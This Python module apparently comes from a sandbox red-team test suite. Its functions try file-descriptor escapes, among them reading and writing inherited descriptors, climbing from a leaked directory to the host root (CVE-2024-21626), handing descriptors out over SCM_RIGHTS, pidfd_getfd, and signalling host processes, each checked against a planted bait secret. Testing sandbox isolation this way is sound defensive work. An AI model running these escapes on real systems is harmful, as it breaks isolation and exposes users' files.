"""Attacks by descriptors: what a careless launcher leaves open."""

import array
import fcntl
import os
import signal
import socket
import stat

from cloche_redteam import libc, others
from cloche_redteam.attack import attack

TYPE_CHECKING = False  # typing is slow to import; the checker takes this name for True
if TYPE_CHECKING:
    from cloche_redteam.attack import Bait

_UP = "../" * 64


@attack("descriptors", "CVE-2016-9962, CVE-2024-21626: descriptors that outlive an exec")
def read_an_inherited_file(bait: "Bait") -> "str | None":
    """Read a file of the user's from a descriptor that was open when the sandbox began."""
    return "read it" if _holds(int(bait["descriptor"]), bait) else None


@attack("descriptors", "fcntl(2): a right to write that was given for something else")
def write_an_inherited_file(bait: "Bait") -> "str | None":
    """Write a letter to a file of the bait that was left open for writing."""
    return "wrote it" if os.pwrite(int(bait["writable_descriptor"]), b"x", 0) else None


@attack("descriptors", "proc_pid_fd(5): opened again, a descriptor has the rights of its file")
def open_an_inherited_file_again_for_writing(bait: "Bait") -> "str | None":
    """Open a descriptor that only reads a second time, for writing."""
    path = f"/proc/self/fd/{bait['descriptor']}"
    os.close(os.open(path, os.O_WRONLY | os.O_CLOEXEC))
    return "opened it"


@attack("descriptors", "linkat(2) of an open descriptor")
def name_an_inherited_file(bait: "Bait") -> "str | None":
    """Give an inherited file a name in the project."""
    name = f"inherited-{os.getpid()}"
    libc.link_what_is_open(int(bait["descriptor"]), name)
    os.unlink(name)
    return "named it"


@attack("descriptors", "flock(2): a lock holds for all who have the same open file")
def lock_an_inherited_file(bait: "Bait") -> "str | None":
    """Lock a file of the user's from an inherited descriptor, and unlock it."""
    descriptor = int(bait["descriptor"])
    fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
    fcntl.flock(descriptor, fcntl.LOCK_UN)
    return "locked it"


@attack("descriptors", "CVE-2024-21626")
def read_below_an_inherited_directory(bait: "Bait") -> "str | None":
    """Read a file of the user's below a directory that was left open."""
    name = os.path.basename(bait["secret_file"])
    opened = os.open(name, os.O_RDONLY, dir_fd=int(bait["directory_descriptor"]))
    return "read it" if _holds(opened, bait) else None


@attack("descriptors", "CVE-2024-21626, chroot(2): a directory outside leads up to the host's root")
def climb_from_an_inherited_directory(bait: "Bait") -> "str | None":
    """Go to a directory that was left open, and from there up to the host's root and down again."""
    os.fchdir(int(bait["directory_descriptor"]))
    opened = os.open(_UP + bait["secret_file"].lstrip("/"), os.O_RDONLY)
    return "read it" if _holds(opened, bait) else None


@attack("descriptors", "CVE-2024-21626: a working directory that was never left")
def climb_from_the_streams(bait: "Bait") -> "str | None":
    """Look among all one's descriptors for a directory that leads to the host."""
    refusal: OSError | None = None
    for number in _numbers():
        try:
            opened = os.open(_UP + bait["secret_file"].lstrip("/"), os.O_RDONLY, dir_fd=number)
        except OSError as error:
            refusal = error
            continue
        if _holds(opened, bait):
            return f"read it from {number}"
    if refusal is not None:
        raise refusal
    return None


@attack("descriptors", "CVE-2016-9962")
def count_what_was_left_open(_bait: "Bait") -> "str | None":
    """Find a file, a directory, a socket or a device beyond the three streams."""
    left = []
    for number in _numbers():
        kind = os.fstat(number).st_mode
        ours = os.readlink(f"/proc/self/fd/{number}").startswith(("/memfd:redteam", "pipe:"))
        if number > 2 and not ours and not stat.S_ISFIFO(kind):
            left.append(number)
    return f"{len(left)} left open: {left[:8]}" if left else None


@attack("descriptors", "sandboxes that block connecting and not what is connected already")
def hear_from_an_inherited_socket(bait: "Bait") -> "str | None":
    """Receive what somebody outside sent to a socket that was left open."""
    with socket.socket(fileno=os.dup(int(bait["socket_descriptor"]))) as left:
        flags = socket.MSG_PEEK | socket.MSG_DONTWAIT
        return "heard it" if bait["secret_text"].encode() in left.recv(256, flags) else None


@attack("descriptors", "unix(7): SCM_RIGHTS carries a file into the sandbox, or out of it")
def hand_a_file_out_by_an_inherited_socket(bait: "Bait") -> "str | None":
    """Send a descriptor of one's own to somebody outside, who may take it for the user's."""
    own = array.array("i", [os.memfd_create("handed-out")])
    with socket.socket(fileno=os.dup(int(bait["socket_descriptor"]))) as left:
        left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, own)], socket.MSG_DONTWAIT)
    return "handed it out"


@attack("descriptors", "proc_pid_fd(5)")
def read_what_the_first_process_holds_open(bait: "Bait") -> "str | None":
    """Read a file of the user's among the descriptors of the sandbox's first process."""
    directory = f"/proc/{others.first(bait)}/fd"
    names = os.listdir(directory)
    refusal: OSError | None = None
    for name in names:
        try:
            if not stat.S_ISREG(os.stat(f"{directory}/{name}").st_mode):
                continue
            if _holds(os.open(f"{directory}/{name}", os.O_RDONLY | os.O_NONBLOCK), bait):
                return "read it"
        except OSError as error:
            refusal = error
    if refusal is not None:
        raise refusal
    return None


@attack("descriptors", "pidfd_getfd(2)")
def take_a_descriptor_of_the_first_process(bait: "Bait") -> "str | None":
    """Take a descriptor out of the sandbox's first process."""
    process = os.pidfd_open(others.first(bait))
    taken = libc.syscall(libc.number(438, 438), process, 0, 0)
    os.close(taken)
    return "took one"


@attack("descriptors", "fcntl(2): F_SETOWN sends signals to whom it names")
def have_a_descriptor_signal_the_caller(bait: "Bait") -> "str | None":
    """Make a process of the host the receiver of a pipe's signals, and send none."""
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, others.host(bait))
        return "it would be signalled"
    finally:
        os.close(reader)
        os.close(writer)


@attack("descriptors", "pidfd_open(2), pidfd_send_signal(2)")
def hold_a_process_of_the_host(bait: "Bait") -> "str | None":
    """Hold a process of the host by a descriptor, and ask whether it may be signalled."""
    process = os.pidfd_open(others.host(bait))
    signal.pidfd_send_signal(process, 0)
    os.close(process)
    return "it may be"


def _holds(descriptor: int, bait: "Bait") -> bool:
    return bait["secret_text"].encode() in os.pread(descriptor, 256, 0)


def _numbers() -> "list[int]":
    listed = sorted(int(name) for name in os.listdir("/proc/self/fd"))
    return [number for number in listed if _is_open(number)]  # the listing's own is closed by now


def _is_open(number: int) -> bool:
    try:
        os.fstat(number)
    except OSError:
        return False
    return True
